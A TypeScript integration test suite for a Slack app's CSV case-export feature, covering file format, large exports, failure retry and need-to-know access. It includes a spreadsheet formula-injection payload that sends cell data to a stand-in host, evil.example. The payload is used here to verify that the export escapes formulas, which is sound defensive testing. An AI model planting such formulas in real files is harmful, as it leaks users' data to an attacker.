import { WebClient } from '@slack/web-api';
import { parse } from 'csv-parse/sync';
import type { Actor, FillValue, MessageReading } from '../../sandbox/workspace';
import { keyFields } from '../../src/db/case-keys';
import { connect } from '../../src/db/connection';
import { type CaseWork, startCaseWork } from '../support/case-work';
import { fileReport, openReport, UNSAFE } from '../support/reports';

const MARKER = 'quokka';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const MANY = 5200;
let work: CaseWork;
let own: string;
let highRisk: string;

beforeAll(async () => {
  work = await startCaseWork({ policy: { repeat_rules: [] } });
  const details = `${FORMULA}\nok;=1+1;\nZebra, "quoted"; día`;
  own = (await work.file(work.as('amira'), { sj: '700900', details })).stored.ref;
  await openReport(work.as('amira'), '/high-risk', 'ACC100 700901');
  await work.as('amira').fill({ ...UNSAFE, 'What happened': `An open ${MARKER} line was left behind.` });
  highRisk = (await fileReport(work.world, work.records, work.as('amira'))).ref;
  await storeMany();
});
afterAll(() => work.stop());

/** Copies of the first case, each with its own SJ and everything that a row can show. */
async function storeMany(): Promise<void> {
  const connection = await connect(work.world.databaseUri, work.world.log);
  const cases = connection.collection('cases');
  const one = await cases.findOne({ ref: own });
  const moment = new Date('2026-01-05T18:00:00Z');
  const copies = Array.from({ length: MANY }, (_, i) => ({
    ...one,
    _id: `copy-${i}` as never,
    ref: `SPF-${500_000 + i}`,
    sj: '711711',
    filedAt: new Date(Date.UTC(2026, 0, 1) + i * 60_000),
    acknowledged: { by: one?.owner, at: moment, nextUpdateBy: moment },
    resolution: { outcome: 'coaching_given', text: `Resolved ${i}`, by: one?.owner, at: moment },
    contacts: [{ by: one?.owner, at: moment, reached: true, text: 'Rang twice' }],
    notes: ['A note', 'Another'].map((text) => ({ id: text, by: one?.owner, at: moment, text, edited: false })),
    reopened: 2,
    clocks: [],
    outbox: [],
    nextNudgeAt: null,
  }));
  await cases.insertMany(copies.map((copy) => ({ ...copy, ...keyFields(copy as never) })));
  await connection.close();
}

/** Searches, and presses the button. */
async function exports(actor: Actor, entries: Readonly<Record<string, FillValue>>): Promise<void> {
  await actor.command('/warmline search');
  await actor.waitForModal(({ labels }) => labels.includes('Words'));
  await actor.fill(entries);
  await actor.submit();
  await actor.press('Export CSV');
}
/** The file of a message, as Slack returns it. */
async function bytesOf({ files: [id = ''] }: MessageReading): Promise<{ name: string; bytes: Buffer }> {
  const { botToken, apiUrl } = work.world.workspace;
  const { file } = await new WebClient(botToken, { slackApiUrl: apiUrl }).files.info({ file: id });
  const response = await fetch(file?.url_private_download ?? '', { headers: { authorization: `Bearer ${botToken}` } });
  return { name: file?.name ?? '', bytes: Buffer.from(await response.arrayBuffer()) };
}
const rowsOf = (bytes: Buffer): Record<string, string>[] => parse(bytes, { bom: true, columns: true });
const withFile = ({ files }: MessageReading) => files.length > 0;

it('sends the results as a file by DM: UTF-8 with BOM, times in UTC and local, answers, nothing that runs', async () => {
  const dana = work.as('dana');
  await exports(dana, { 'SJ Number': '700900' });
  const message = await dana.waitForDm(withFile);
  expect(message.text).toBe('Your export: 1 case.');
  expect(dana.modal().text).toContain('You get it as a direct message');
  await dana.close();
  const { name, bytes } = await bytesOf(message);
  expect(name).toMatch(/^warmline-cases-2026-11-\d\d-\d\d-\d\d-utc\.csv$/);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [row, ...others] = rowsOf(bytes);
  expect(others).toEqual([]);
  expect(row).toMatchObject({
    Reference: own,
    SJ: '700900',
    Owner: 'Dana Diaz',
    'Filed by': 'Amira Haddad',
    'Area time zone': 'America/Los_Angeles',
    'Reason For Feedback': 'SP Feedback from Customer',
    'Negative Customer Feedback': 'Misdiagnosis',
    "Details of Customer's Experience with SP": `'${FORMULA}\nok;'=1+1;\nZebra, "quoted"; día`,
  });
  const utc = new Date(row?.['Filed (UTC)'] ?? '');
  expect(utc).toEqual((await work.records.of(own)).filedAt);
  expect(row?.['Filed (area time)']).toBe(
    utc.toLocaleString('sv-SE', { timeZone: 'America/Los_Angeles', dateStyle: 'short', timeStyle: 'medium' }),
  );
  // As spreadsheets read the cells with any list separator: none begins with what they would run.
  for (const separator of [',', ';', '\t']) {
    const options = { bom: true, delimiter: separator, relax_quotes: true, relax_column_count: true };
    const cells = parse(bytes, options).flat();
    expect(cells.length).toBeGreaterThan(1);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  }
});

it('writes thousands of rows, shows its progress in one message, and then the number of rows', async () => {
  const dana = work.as('dana');
  await exports(dana, { 'SJ Number': '711711' });
  expect(dana.modal().text).toContain('*1-10 of more than 100*');
  await dana.waitForModal(({ text }) => text.includes('Warmline is making the file'));
  await dana.press('Export CSV');
  await dana.waitForModal(({ text }) => text.includes('Your last export is still being made'));
  await dana.close();
  const message = await dana.waitForDm((one) => withFile(one) && one.text.includes('5,200'), 30_000);
  const end = await dana.waitForDm(({ text }) => text.startsWith('The export is done: 5,200 cases'));
  expect(end.edited).toBe(true);
  expect(dana.dm().filter(({ text }) => text.includes('so far'))).toEqual([]);
  const rows = rowsOf((await bytesOf(message)).bytes);
  expect(rows.map(({ Reference }) => Reference)).toEqual(
    Array.from({ length: MANY }, (_, i) => `SPF-${500_000 + MANY - 1 - i}`),
  );
  expect(rows.at(-1)).toMatchObject({
    Severity: 'normal',
    'SP account': 'ACC100',
    'Acknowledged by': 'Dana Diaz',
    'Acknowledged (UTC)': '2026-01-05T18:00:00.000Z',
    Outcome: 'Coaching given',
    'Outcome in words': 'Resolved 0',
    'Resolved by': 'Dana Diaz',
    'Resolved (area time)': '2026-01-05 10:00:00',
    'Times reopened': '2',
    'Contacts with the SP': 'Dana Diaz: Rang twice',
    Notes: 'Dana Diaz: A note\nDana Diaz: Another',
  });
});

it('says so if it fails, and can be requested again', async () => {
  const { faults } = work.world.workspace;
  const tom = work.as('tom');
  await faults.set({ errorBefore: { remaining: 9, method: 'files.completeUploadExternal' } });
  await exports(tom, { 'SJ Number': '700900' });
  const { text } = await tom.waitForDm((dm) => dm.text.includes('could not be finished'));
  expect(text).toMatch(/could not be finished, and no file was made\. .* tell an admin the code [0-9a-f]{6}\.$/);
  faults.clear();
  await tom.press('Export CSV');
  expect((await tom.waitForDm(withFile)).text).toBe('Your export: 1 case.');
  await tom.close();
});

it.each([
  ['ada', false],
  ['dana', false],
  ['amira', true],
  ['rosa', true],
] as const)('the file of %s holds the need-to-know case: %s', async (name, holds) => {
  const actor = work.as(name);
  const { files: earlier } = actor.dm().findLast(withFile) ?? { files: [] };
  await exports(actor, { 'Filed on or after': '2026-11-01', 'Filed by': 'amira' });
  const message = await actor.waitForDm((one) => withFile(one) && one.files[0] !== earlier[0]);
  await actor.close();
  const text = (await bytesOf(message)).bytes.toString('utf8');
  for (const words of [highRisk, MARKER, 'What happened']) expect(text.includes(words)).toBe(holds);
  expect(text.includes(own)).toBe(name !== 'rosa');
  const connection = await connect(work.world.databaseUri, work.world.log);
  const reads = await connection.collection('access_log').find({ who: actor.id, how: 'export' }).toArray();
  await connection.close();
  expect(reads.map(({ ref }) => ref)).toEqual(holds ? [highRisk] : []);
});
